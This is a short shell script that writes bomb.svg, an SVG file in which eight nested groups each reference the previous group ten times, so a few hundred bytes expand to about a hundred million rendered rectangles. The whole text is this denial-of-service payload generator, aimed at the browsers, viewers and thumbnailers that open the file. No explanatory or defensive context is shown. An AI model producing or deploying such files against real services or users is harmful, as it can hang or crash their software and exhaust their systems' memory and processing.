# Each group holds ten copies of the one before.
{
    printf '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">\n<rect id="g0" width="1" height="1"/>\n'
    awk 'BEGIN { for (i = 1; i < 9; i++) { printf "<g id=\"g%d\">", i; for (k = 0; k < 10; k++) printf "<use href=\"#g%d\"/>", i - 1; print "</g>" } }'
    printf '</svg>\n'
} >bomb.svg
